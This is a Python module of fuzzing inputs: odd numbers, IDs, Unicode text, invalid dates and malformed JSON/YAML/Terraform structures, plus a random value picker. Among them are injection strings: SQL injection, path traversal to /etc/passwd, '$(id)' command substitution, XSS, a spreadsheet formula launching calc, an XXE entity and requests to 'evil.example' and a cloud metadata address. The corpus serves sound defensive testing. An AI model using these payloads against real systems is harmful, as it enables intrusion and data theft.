"""Unusual values: numbers, texts, dates and structures that often break programs."""

import random

NUMBERS = (
    *("0", "-1", "-0", "1 ", "1e3", "0x1", "1.5", "٣", "NaN", "Infinity", "1e400"),
    *(str(2**bits) for bits in (31, 32, 63, 64, 70)),
    *(str(-(2**63)), "9" * 5000, "[]", "{}", "null", "true", "false", ""),
)
IDS = (
    "prod-" * 1600,
    "prod-bp1x4v3r44u7u7",
    "pp-bp1' OR '1'='1",
    "task-%00",
    "00000000-0000-0000-0000-000000000000",
    "{00000000-0000-0000-0000-000000000000}",
    "urn:uuid:00000000-0000-0000-0000-000000000000",
    "-",
    ".",
    "..",
    "%2e%2e%2f",
    "..%2f..%2fetc%2fpasswd",
)
TEXTS = (
    "\x00",
    "a\x00b",
    "\ufeff",
    "\u202eevil",
    "\u200b",
    "👩‍👩‍👧‍👦" * 43,
    "e\u0301",
    "\u00e9",
    "a\r\nSet-Cookie: x=1",
    "\x1b]8;;http://evil.example\x07x\x1b[2J",
    "%00",
    "%2e%2e%2f",
    "{{7*7}}",
    "{% debug %}",
    '${file("/etc/passwd")}',
    "%{ for x in [] }",
    "=cmd|'/C calc'!A0",
    "<svg/onload=alert(1)>",
    '" hx-get="//evil.example" hx-trigger="load',
    "javascript:alert(1)",
    "//evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "http://169.254.169.254/",
    "';--",
    "' OR 1=1 --",
    "_connector",
    "owner__password__startswith",
    "-created_at,__class__",
    "-destroy",
    "--",
    "$(id)",
    "`id`",
    "../" * 30,
    "x" * 4000,
    "(a+)+$",
    "(?=x)",
    " ",
    "\t",
    "\n",
)
DATES = (
    "9999-12-31T23:59:59Z",
    "9999-12-31",
    "0001-01-01",
    "2026-13-40",
    "0000-00-00",
    "2016-12-31T23:59:60Z",
    "2026-01-01T00:00:00+14:00",
    "2026-01-01T00:00:00-14:00",
    "2026-03-29T02:30",
    "-1-01-01",
)
STRUCTURES = (
    "[" * 5000,
    '{"a":' * 3000 + "1" + "}" * 3000,
    '{"a": 1, "a": 2}',
    '{"a": NaN}',
    '{"Key": "\\ud800"}',
    "[[]]",
    '[{"a": [1, null, true]}]',
    "&a [*a, *a]",
    'variable "x" {',
    'variable "x" {\n  default = ' + "(" * 500,
    "Transform: Aliyun::Terraform-v1.2\nWorkspace:\n  ../main.tf: x",
    "ROSTemplateFormatVersion: '2015-09-01'\nResources: {a: {Type: []}}",
    '{"Rules": [{"AllowedPattern": "("}]}',
    '{"StackRegions": [[]]}',
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)
EVERYTHING = (*NUMBERS, *IDS, *TEXTS, *DATES, *STRUCTURES)
# What no UTF-8 text holds, as it is written in an address.
RAW_IN_ADDRESS = ("%ED%A0%80", "%FF%FE", "%C0%AF", "%", "%zz", "%u0041", "%F4%90%80%80")


def value(dice: random.Random) -> str:
    """Return a value of the corpus, or random characters."""
    if dice.random() < 0.85:
        return dice.choice(EVERYTHING)
    letters = [
        chr(dice.choice((dice.randrange(128), dice.randrange(0xD7FF))))
        for _ in range(dice.randrange(60))
    ]
    return "".join(letters)
